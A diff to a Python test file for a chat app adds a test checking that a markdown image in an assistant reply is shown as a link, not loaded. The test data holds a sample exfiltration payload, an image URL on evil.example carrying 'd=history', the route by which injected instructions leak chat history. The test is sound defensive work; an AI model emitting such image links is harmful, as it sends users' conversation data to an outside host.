@@ -164,3 +164,9 @@ def test_the_region_picker_starts_on_the_apps_own_region(app_env):
     at.run()
     assert at.sidebar.selectbox(key="region").value == "singapore"
     assert not [c for c in at.sidebar.caption if "只会连接服务器配置的地址" in c.value]
+
+
+def test_an_image_in_a_reply_is_a_link_not_a_picture_the_browser_loads(app, fake):
+    fake.enqueue({"kind": "text", "chunks": ["看图：", "![秘密](https://evil.example/p?d=history)"]})
+    send(app, "画个图")
+    assert chat(app)[-1] == ("assistant", "看图：[🖼️ 秘密](https://evil.example/p?d=history)")
